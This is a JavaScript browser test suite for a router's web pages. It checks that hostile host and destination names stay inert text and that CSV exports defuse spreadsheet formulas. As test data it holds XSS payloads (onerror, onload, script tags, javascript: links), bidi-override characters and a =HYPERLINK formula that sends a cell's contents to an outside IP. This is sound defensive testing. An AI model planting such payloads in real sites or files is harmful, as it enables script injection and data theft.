// Names from the network are text: whatever a device or a server calls itself, nothing of it becomes page.

import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { BASIC, begin, faults, flow } from '../kit/setup.mjs';
import { CAMERA, ask, send, until } from '../kit/home.mjs';

/* No name in a lease has white space; HTML needs none. */
const LEASED = '<img/src=x/onerror=alert(1)>"\'><svg/onload=alert(2)>\u202egpj.exe\u202c&lt;b&gt;%s';
/* What somebody typed into the configuration is no better. */
const TYPED = '<img src=x onerror=alert(5)>"<b>';
const SECTION = `
config device
\toption mac 'b8:27:eb:00:00:02'
\toption name '${TYPED}'
`;
const LONG = 'ä'.repeat(127) + 'x';
const NAMES = [
	'<img src=x onerror=alert(1)>', '"><script>alert(2)</script>', '\u202etxt.evil\u2066', 'javascript:alert(3)', '&lt;i&gt;', LONG, '%s %d %h', "'; DROP"
];
const PAGES = [ 'overview', 'pending', 'flows', 'devices', 'activity', 'settings' ];

let home;

before(async () => {
	assert.equal(Buffer.byteLength(LONG), 255);
	home = await begin({ config: BASIC + SECTION, leases: `4102444800 ${CAMERA} 192.168.1.10 ${LEASED} *\n` });
	await send('udp', 7001);
	await until('the daemon knows the leased name', async () => (await ask('flow_list')).flows.some((f) => f.device === LEASED));
});
after(() => home?.end());

/* Nothing of a name was taken for markup: no element of it, no handler of it, and the console is silent. */
async function clean(page, what) {
	const made = await page.evaluate(() => ({
		images: document.querySelectorAll('#view img, #view script, #view svg[onload], #view i, #view b, .modal img, .modal script').length,
		handlers: Array.from(document.querySelectorAll('#view *, .modal *')).filter((node) =>
			Array.from(node.attributes).some((a) => /^on/.test(a.name) || (a.name === 'href' && /^javascript:/i.test(a.value)))).length
	}));

	assert.deepEqual(made, { images: 0, handlers: 0 }, what);
	assert.deepEqual(faults(page), [], what);
}

/* A character that turns or hides others, as it is shown: by its number. */
const plain = (name) => name.replace(/[\u202e\u202c\u2066]/g, (c) => `U+${c.charCodeAt(0).toString(16).toUpperCase()}`);

/* The name stands there letter by letter, in a direction of its own, and inside the page. */
async function shown(page, name) {
	/* In one look: a refresh may put another element in its place. */
	const [ text, direction ] = await until(`the page shows ${name}`, () => page.evaluate((wanted) => {
		const element = Array.from(document.querySelectorAll('bdi')).find((node) => node.textContent.includes(wanted));

		return element ? [ element.textContent, getComputedStyle(element).unicodeBidi ] : null;
	}, plain(name)), 60);

	assert.equal(text, plain(name));
	assert.equal(direction, 'isolate');
	assert.doesNotMatch(await page.locator('#view').textContent(), /[\u202a-\u202e\u2066-\u2069]/, 'nothing turns the text around it');
}

const PHONE = { width: 375, height: 812 };
/* No page is wider than its window, and no name is cut off at the edge of something that hides what is too wide. */
const fits = (page) => page.evaluate(() => document.documentElement.scrollWidth <= document.documentElement.clientWidth + 1 &&
	Array.from(document.querySelectorAll('bdi')).every((name) => Array.from(name.getClientRects()).every((box) => box.right <= window.innerWidth + 1)));

test('a host name from a DHCP lease is text on every page', async () => {
	for (const name of PAGES) {
		const page = await home.browser.open(home.router, name);
		if (name === 'settings')
			assert.equal(await page.locator('#cbi-glacic-device [data-name=name] input:not([type=hidden])').first().inputValue(), TYPED);
		else if (name !== 'overview')
			await shown(page, LEASED);
		await clean(page, name);
		await page.context().close();
	}
});

test('a host name of 255 bytes wraps, also on a phone', async () => {
	const page = await home.browser.open(home.router, 'pending', { viewport: PHONE });

	home.router.replies.set('flow_list', async () => {
		const { flows, total } = await ask('flow_list', { filter: { state: 'pending' } });

		return { flows: flows.map((f) => ({ ...f, device: LONG })), total };
	});
	await shown(page, LONG);
	assert.ok(await fits(page), 'no page wider than its window');
	home.router.replies.clear();
	await page.context().close();
});

test('what is said after a decision, and what is asked before one, is text too', async () => {
	const page = await home.browser.open(home.router, 'pending');

	await page.getByRole('button', { name: /^Allow all waiting/ }).click();
	await page.getByRole('alertdialog').waitFor();
	await clean(page, 'the question');
	await page.getByRole('button', { name: 'Cancel' }).click();
	await page.getByRole('button', { name: /^Deny udp\/7001/ }).click();
	await page.getByText('Denied: udp/7001').waitFor();
	await clean(page, 'the answer');
	await page.context().close();
});

test('a name the owner gives is text, with white space and quotes', async () => {
	const given = '<img src=x onerror="alert(4)"> \'"&amp; \u202eabc';
	const page = await home.browser.open(home.router, 'devices');

	await page.getByRole('button', { name: /^Rename/ }).click();
	await page.getByLabel('Name', { exact: true }).fill(given);
	await page.getByRole('alertdialog').getByRole('button', { name: 'Rename' }).click();
	await page.getByText('Now called:').waitFor();
	await shown(page, given);
	await clean(page, 'devices');
	await page.context().close();
});

/*
 * The daemon does not tell names of destinations yet: these are recorded replies of the shape that
 * docs/control-protocol.md fixes, so this is a test of the pages alone.
 */
test('names of destinations (recorded replies) are text, in lists, details and files', async () => {
	const one = await flow('the denied flow', (f) => f.port === 7001);
	const names = NAMES.map((name, i) => ({ name, source: [ 'sni', 'dns', 'reverse' ][i % 3], confidence: 100 - i }));
	const hostile = { ...one, names, app: NAMES[0], device: NAMES[1], vendor: NAMES[2], state: 'pending' };

	home.router.replies.set('flow_list', () => ({ flows: [ hostile ], total: 1 }));
	home.router.replies.set('flow_get', () => hostile);
	for (const name of [ 'pending', 'flows' ]) {
		const page = await home.browser.open(home.router, name, { viewport: PHONE });
		if (name === 'flows') {
			await page.getByRole('button', { name: /^Details/ }).click();
			for (const text of NAMES)
				await page.locator('.glacic-hints bdi').filter({ hasText: plain(text) }).waitFor();
		}
		await shown(page, NAMES[0]);
		assert.ok(await fits(page), `${name} is no wider than its window`);
		await clean(page, name);
		await page.context().close();
	}
	home.router.replies.clear();
});

test('an exported file cannot run in a spreadsheet', async () => {
	const formula = '=HYPERLINK("http://203.0.113.10/?"&A1,"x")';
	const one = await flow('the denied flow', (f) => f.port === 7001);

	home.router.replies.set('flow_list', () => ({ flows: [ { ...one, device: formula, vendor: '+1', service: ' @SUM(1)', zone: '\u200b\uff1d1', app: '\t-1', names: [ { name: '-2+3' } ] } ], total: 1 }));
	const page = await home.browser.open(home.router, 'flows');
	const [ download ] = await Promise.all([ page.waitForEvent('download'), page.getByRole('button', { name: 'Save as CSV' }).click() ]);
	const pieces = [];
	for await (const piece of await download.createReadStream())
		pieces.push(piece);
	const lines = Buffer.concat(pieces).toString().replace(/^\ufeff/, '').split('\r\n');

	assert.match(download.suggestedFilename(), /^glacic-flows-\d{4}-\d\d-\d\d\.csv$/);
	assert.equal(lines.length, 3);
	for (const cell of [ `"'=HYPERLINK(""http://203.0.113.10/?""&A1,""x"")"`, `"'+1"`, `"' @SUM(1)"`, `"'-2+3"`, `"'\u200b\uff1d1"`, `"'\t-1"` ])
		assert.ok(lines[1].includes(cell), `${cell} in ${lines[1]}`);
	for (const cell of lines[1].match(/"(?:[^"]|"")*"/g))
		assert.doesNotMatch(cell, /^"\s*[=+\-@\t\r]/);

	const [ json ] = await Promise.all([ page.waitForEvent('download'), page.getByRole('button', { name: 'Save as JSON' }).click() ]);
	const text = [];
	for await (const piece of await json.createReadStream())
		text.push(piece);
	assert.equal(JSON.parse(Buffer.concat(text)).flows[0].device, formula);
	home.router.replies.clear();
	await page.context().close();
});
